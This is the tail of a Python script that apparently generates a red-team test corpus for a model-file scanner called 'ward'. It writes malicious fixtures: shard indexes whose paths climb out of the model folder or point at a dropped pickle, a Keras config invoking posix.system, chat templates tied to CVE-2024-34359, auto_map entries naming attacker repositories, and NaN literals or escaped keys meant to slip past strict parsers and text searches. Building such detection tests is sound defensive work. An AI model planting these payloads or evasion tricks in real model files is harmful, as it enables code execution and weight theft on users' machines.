    "lm_head.weight": "../../../../home/user/.cache/huggingface/hub/models--private--model/snapshots/main/model.safetensors"}}),
    "Hugging Face shard index", "one weight_map shard climbs out of the model folder: another model's weights are copied in",
    IDX, "AutoModel.from_pretrained(local folder), use_safetensors=True, weights_only=True", "model-hf-shard-outside",
    "models--private--model")
write("hf/shard_absolute/config.json", json.dumps({"model_type": "bert"}))
add("hf/shard_absolute/pytorch_model.bin.index.json", json.dumps({"metadata": {"total_size": 8}, "weight_map": {
    "bert.embeddings.word_embeddings.weight": "/tmp/ward-redteam/uploaded.bin"}}),
    "Hugging Face shard index", "an absolute shard path to a pickle dropped elsewhere (torch.load unpickles it)",
    IDX, "AutoModel.from_pretrained(local folder) with .bin shards (torch.load)", "model-hf-shard-outside", "/tmp/ward-redteam/uploaded.bin")

# ---------------------------------------------------------------- JSON only Python reads: NaN / Infinity literals
# json.dumps writes NaN and Infinity for float('nan') and float('inf') and
# json.loads reads them; Go's encoding/json (and strict parsers) refuse the
# whole document, so a scanner built on one leaves the config unread.
PYJ = "Python json module (NaN/Infinity literals, allow_nan=True by default); RFC 8259 forbids them"
add("json/nan_tokenizer/tokenizer_config.json", '{"model_max_length": NaN, "chat_template": %s}' % json.dumps(LOOP + EVIL_TPL),
    "tokenizer_config.json", "NaN literal next to a malicious chat template", PYJ + "; CVE-2024-34359", TPL, TPLR, "__globals__")
add("json/infinity_keras/config.json", '{"module": "keras", "class_name": "Sequential", "registered_name": null, "config": '
    '{"name": "s", "trainable": true, "dtype_policy_scale": Infinity, "layers": [%s]}}' % json.dumps(dense(activation={
        "module": "posix", "class_name": "function", "config": "system", "registered_name": None})),
    "Keras 3 unzipped folder", "Infinity literal in a Keras config naming posix.system", PYJ + "; CVE-2025-1550",
    K3 + " of the folder", KU, "posix.system")
write("json/infinity_keras/model.weights.h5", weights_h5())
add("json/nan_auto_map/config.json", '{"model_type": "x", "initializer_range": NaN, "auto_map": {"AutoModel": '
    '"attacker/nan-repo--modeling_x.XModel"}}', "Hugging Face config.json", "NaN literal in a config whose auto_map names "
    "another repository", PYJ + "; transformers dynamic_module_utils", "AutoModel.from_pretrained(trust_remote_code=True)",
    HFR, "attacker/nan-repo")
write("json/ninf_index/config.json", json.dumps({"model_type": "llama"}))
add("json/ninf_index/model.safetensors.index.json", '{"metadata": {"total_size": -Infinity}, "weight_map": {"lm_head.weight": '
    '"/home/user/.cache/other/model.safetensors"}}', "Hugging Face shard index", "-Infinity literal in a shard index that "
    "climbs out of the folder", PYJ + "; huggingface/transformers #47176", "AutoModel.from_pretrained(local folder)",
    "model-hf-shard-outside", "/home/user/.cache/other/model.safetensors")

# keys spelt with JSON escapes: json.loads decodes them like any other
add("json/escaped_key_auto_map/config.json", '{"model_type": "x", "auto\\u005fmap": {"AutoModel": "attacker/esc-repo--modeling_x.XModel"}}',
    "Hugging Face config.json", "the auto_map key spelt with a \\u escape (a text search for \"auto_map\" misses it)",
    "RFC 8259 string escapes in object keys; transformers dynamic_module_utils", "AutoModel.from_pretrained(trust_remote_code=True)",
    HFR, "attacker/esc-repo")
write("json/escaped_key_index/config.json", json.dumps({"model_type": "llama"}))
add("json/escaped_key_index/model.safetensors.index.json", '{"weight\\u005fmap": {"lm_head.weight": "../../../../root/.cache/x.safetensors"}}',
    "Hugging Face shard index", "the weight_map key spelt with a \\u escape", "RFC 8259 string escapes; huggingface/transformers #47176",
    "AutoModel.from_pretrained(local folder)", "model-hf-shard-outside", "root/.cache/x.safetensors")

if __name__ == "__main__":
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump({"malicious": entries, "benign": benign}, f, indent=1)
        f.write("\n")
    if "--table" in sys.argv:
        print("| # | file | technique | source | loader that runs it | ward's finding |")
        print("|---|---|---|---|---|---|")
        for i, e in enumerate(entries, 1):
            print("| %d | `%s` | %s | %s | %s | `%s` naming `%s` |" % (i, e["File"], e["Technique"].replace("|", "\\|"), e["Source"],
                  e["Loader"], e["Rule"], e["Evidence"].replace("|", "\\|")))
    print(len(entries), "files", file=sys.stderr)
